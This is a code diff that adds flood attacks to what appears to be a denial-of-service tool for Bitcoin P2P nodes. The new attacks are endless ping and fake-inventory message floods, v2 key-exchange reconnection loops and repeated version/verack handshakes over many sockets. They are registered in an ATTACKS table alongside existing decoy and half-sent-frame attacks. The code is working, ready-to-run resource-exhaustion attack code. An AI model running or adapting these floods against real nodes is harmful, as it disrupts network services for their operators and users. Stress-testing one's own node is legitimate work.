@@ -23,6 +23,8 @@ function pour(socket, bytes) {
   more();
 }
 
+const random = (size) => globalThis.crypto.getRandomValues(new Uint8Array(size));
+
 const repeated = (frame, times) => Buffer.concat(Array(times).fill(Buffer.from(frame)));
 
 function versionFrame() {
@@ -45,10 +47,49 @@ const v1 = () =>
     socket.once('data', () => resolve(socket));
   });
 
-async function pingsOverV1() {
-  const frame = repeated(encodeFrame(magic, 'ping', encodeMessage(PING)), 2_000);
+/** Each sends that frame without end. */
+async function flood(frame) {
+  const many = repeated(frame, 2_000);
   const sockets = await Promise.all(Array.from({ length: peers }, v1));
-  for (const socket of sockets) if (socket) pour(socket, frame);
+  for (const socket of sockets) if (socket) pour(socket, many);
+}
+
+const pings = () => flood(encodeFrame(magic, 'ping', encodeMessage(PING)));
+
+/** Valid messages that announce one block each. */
+function invs() {
+  const inventory = [{ type: 2, hash: new Uint8Array(32).fill(7) }];
+  return flood(encodeFrame(magic, 'inv', encodeMessage({ command: 'inv', inventory })));
+}
+
+/** Key exchanges without end: each connection sends a key, waits for ours, and is replaced. */
+function exchanges() {
+  const key = createV2Key(random).ellswift;
+  const next = () => {
+    const socket = connect(at);
+    socket.on('error', () => undefined);
+    socket.on('close', () => setTimeout(next, 1));
+    socket.once('data', () => socket.resetAndDestroy());
+    socket.write(key);
+  };
+  for (let n = 0; n < peers; n += 1) next();
+  return new Promise((resolve) => setTimeout(resolve, 500));
+}
+
+/** Handshakes without end, one after the other on each of so many connections. */
+function visits() {
+  const bytes = [versionFrame(), encodeFrame(magic, 'verack', new Uint8Array())];
+  const next = () => {
+    const socket = connect(at);
+    let size = 0;
+    socket.on('error', () => undefined);
+    socket.on('close', () => setTimeout(next, 1));
+    // Their version and verack.
+    socket.on('data', (chunk) => (size += chunk.length) > 150 && socket.end());
+    socket.write(Buffer.concat(bytes));
+  };
+  for (let n = 0; n < peers; n += 1) next();
+  return new Promise((resolve) => setTimeout(resolve, 500));
 }
 
 /** Each holds all of a frame but its last byte; half of them before `version`. */
@@ -61,8 +102,6 @@ async function unfinished() {
     socket?.write(frame);
   }
 }
-
-const random = (size) => globalThis.crypto.getRandomValues(new Uint8Array(size));
 
 /** One v2 connection: what comes behind the other side's key is not read. */
 function v2(next) {
@@ -104,7 +143,10 @@ const repeatedly = (make) => Buffer.concat(Array.from({ length: 500 }, make));
 const ATTACKS = {
   decoys: () => overV2((encoder) => encoder.decoy(0)),
   'pings-v2': () => overV2((encoder) => encoder.message('ping', encodeMessage(PING))),
-  'pings-v1': pingsOverV1,
+  'pings-v1': pings,
+  'invs-v1': invs,
+  exchanges,
+  visits,
   unfinished,
 };
 
